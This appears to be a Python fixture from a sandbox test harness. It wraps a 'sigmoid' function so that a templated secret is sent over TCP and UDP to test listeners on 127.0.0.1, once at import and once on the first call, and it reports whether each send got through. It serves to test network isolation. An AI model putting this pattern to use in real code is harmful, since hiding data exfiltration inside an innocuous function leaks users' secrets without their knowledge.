"""Sends a secret over TCP and UDP to the test's listeners on 127.0.0.1, at import and inside sigmoid."""
import socket as _socket

_TCP_PORT = int("{{TCP_PORT}}")
_UDP_PORT = int("{{UDP_PORT}}")
_SECRET = "{{SECRET}}"
_reference_sigmoid = sigmoid
_leaked_in_call = []


def _leak(when):
    """Try both ways out; print what happened (never the secret), and never raise."""
    said = []
    try:
        with _socket.create_connection(("127.0.0.1", _TCP_PORT), timeout=2) as tcp:
            tcp.sendall(f"{_SECRET} over TCP {when}\n".encode())
        said.append("TCP connected and sent")
    except Exception as exc:
        said.append(f"TCP refused ({type(exc).__name__}: {exc})")
    try:
        with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as udp:
            udp.sendto(f"{_SECRET} over UDP {when}\n".encode(), ("127.0.0.1", _UDP_PORT))
        said.append("UDP sent")
    except Exception as exc:
        said.append(f"UDP refused ({type(exc).__name__}: {exc})")
    print(f"network attack {when}: " + "; ".join(said))


def sigmoid(x):
    if not _leaked_in_call:
        _leaked_in_call.append(True)
        _leak("inside sigmoid")
    return _reference_sigmoid(x)


_leak("at import")
